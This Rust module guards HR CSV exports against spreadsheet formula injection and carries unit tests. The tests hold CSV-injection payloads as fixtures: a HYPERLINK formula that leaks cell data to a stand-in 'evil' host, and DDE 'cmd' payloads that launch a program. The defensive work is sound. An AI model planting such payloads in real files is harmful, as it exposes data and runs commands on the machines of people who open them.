//! Cells of the CSV files people open in a spreadsheet (`rejects.csv`, `changes.csv`), made
//! safe against formula injection: HR values are typed by the employees themselves (a
//! self-service portal), and Excel runs a cell that begins with `=`, `+`, `-` or `@` as a
//! formula on the machine of the admin who opens the file (OWASP "CSV Injection").

use std::borrow::Cow;

/// The cell as written: a value whose first character makes a spreadsheet read it as a formula
/// (`=`, `+`, `-`, `@`, tab, carriage return) gets a leading `'`, which makes it text. Plain
/// numbers and phone numbers (`-5`, `+49 89 5558796`: digits, spaces and `+ - . ( ) /` only)
/// stay as they are: without a letter there is no function or reference to call, and a quote
/// would make them harder to read. A value that already begins with `'`s before such a
/// character gets one more, so [`restore`] gives every value back exactly.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    if needs_quote(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// The value a cell written by [`neutralise`] holds: the inverse, for the tool's own readers
/// (the run report reads `rejects.csv` back).
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

fn needs_quote(value: &str) -> bool {
    let rest = value.trim_start_matches('\'');
    match rest.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => !plain_number(rest),
        _ => false,
    }
}

/// Digits (at least one), spaces and `+ - . ( ) /`: a number, a date or a phone number.
fn plain_number(s: &str) -> bool {
    s.bytes().any(|b| b.is_ascii_digit())
        && s.bytes().all(|b| b.is_ascii_digit() || b" +-.()/".contains(&b))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        for (value, cell) in [
            (r#"=HYPERLINK("http://evil/?"&A1,"x")"#, r#"'=HYPERLINK("http://evil/?"&A1,"x")"#),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("=1+1", "'=1+1"),
            ("-", "'-"),
            ("+", "'+"),
            ("=", "'="),
            ("-€5", "'-€5"),
            ("=Zoë", "'=Zoë"),
        ] {
            assert_eq!(neutralise(value), cell, "{value:?}");
            assert_eq!(restore(cell), value, "{cell:?}");
        }
    }

    #[test]
    fn numbers_phone_numbers_and_ordinary_text_stay_as_they_are() {
        for value in [
            "+49 89 5558796",
            "+1 (555) 010-4477",
            "-5",
            "-0.25",
            "+33/1 23 45 67 89",
            "",
            "Zoë Müller-Lüdenscheidt",
            "李小龙",
            "O'Brien",
            "'",
            "a=b",
            " =1+1",
            "100004",
            "2026-01-31",
        ] {
            assert_eq!(neutralise(value), value, "{value:?}");
            assert!(matches!(neutralise(value), Cow::Borrowed(_)), "{value:?}");
            assert_eq!(restore(value), value, "{value:?}");
        }
    }

    #[test]
    fn quotes_before_a_formula_read_back_exactly() {
        for (value, cell) in [
            ("'=1+1", "''=1+1"),
            ("''@x", "'''@x"),
            ("'-5", "'-5"),
            ("'abc", "'abc"),
            ("'+49 89 5558796", "'+49 89 5558796"),
        ] {
            assert_eq!(neutralise(value), cell, "{value:?}");
            assert_eq!(restore(cell), value, "{cell:?}");
        }
    }

    #[test]
    fn restore_inverts_neutralise_on_every_short_string() {
        // Every string of up to three characters over the characters that matter.
        let alphabet = ['=', '+', '-', '@', '\t', '\r', '\'', '1', ' ', 'a', 'é'];
        let mut all = vec![String::new()];
        for _ in 0..3 {
            let longer: Vec<String> =
                all.iter().flat_map(|s| alphabet.iter().map(move |c| format!("{s}{c}"))).collect();
            all.extend(longer);
        }
        all.sort();
        all.dedup();
        for value in &all {
            let cell = neutralise(value);
            assert_eq!(restore(&cell), value, "{value:?} -> {cell:?}");
            let first = cell.trim_start_matches('\'').chars().next();
            let quoted = cell.starts_with('\'');
            if matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')) && !quoted {
                assert!(plain_number(&cell), "{value:?} left as a formula: {cell:?}");
            }
        }
    }
}
